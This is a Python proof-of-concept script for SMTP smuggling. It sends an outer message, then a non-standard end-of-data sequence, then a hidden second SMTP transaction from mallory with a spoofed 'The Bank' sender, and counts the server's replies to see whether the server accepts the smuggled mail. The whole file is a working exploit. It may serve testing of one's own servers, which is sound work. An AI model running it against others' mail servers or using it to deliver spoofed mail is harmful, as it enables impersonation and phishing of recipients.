"""One message with a second one inside it, behind a sequence that is no end of data by RFC 5321 (LF.LF and its kin).

    smuggler.py SERVER SEQUENCE [PORT] [EHLO|LHLO]     SEQUENCE with escapes, e.g. '\\n.\\r\\n'

A server that takes the sequence for the end answers the hidden commands as well, and keeps two messages. Prints how
many replies came after the text, and the first of them.
"""
import socket
import sys

server, sequence = sys.argv[1], sys.argv[2].encode().decode("unicode_escape").encode("latin-1")
port = int(sys.argv[3]) if len(sys.argv) > 3 else 25
hello = sys.argv[4] if len(sys.argv) > 4 else "EHLO"

OUTER = b"""From: Alice <alice@example.net>
To: Bob <bob@example.com>
Subject: Report
Message-ID: <outer@client.example.net>
Date: Mon, 02 Mar 2026 10:00:00 +0000

The report you asked for is ready.""".replace(b"\n", b"\r\n")

HIDDEN = b"""MAIL FROM:<mallory@example.net>
RCPT TO:<carol@example.com>
DATA
From: The Bank <bank@example.org>
To: Carol <carol@example.com>
Subject: Hidden
Message-ID: <hidden@client.example.net>
Date: Mon, 02 Mar 2026 10:00:00 +0000

This was smuggled in.
.
""".replace(b"\n", b"\r\n")

with socket.create_connection((server, port), timeout=30) as connection:
    replies = connection.makefile("rb")

    def reply():
        line = replies.readline()
        while line[3:4] == b"-":
            line = replies.readline()
        return line

    def command(text):
        connection.sendall(text.encode() + b"\r\n")
        return reply()

    reply()
    command(f"{hello} client.example.net")
    command("MAIL FROM:<alice@example.net>")
    command("RCPT TO:<bob@example.com>")
    command("DATA")
    connection.sendall(OUTER + sequence + HIDDEN)
    got = []
    connection.settimeout(2)  # nobody says how many answers there will be
    try:
        while line := reply():
            got.append(line.decode().strip())
        print(len(got), "then closed", *got, sep=" | ")
    except TimeoutError:
        print(len(got), *got, sep=" | ")
        connection.settimeout(5)
        try:
            connection.sendall(b"QUIT\r\n")
            replies = connection.makefile("rb")
            reply()
        except OSError:
            pass
    except OSError as error:
        print(len(got), error, *got, sep=" | ")
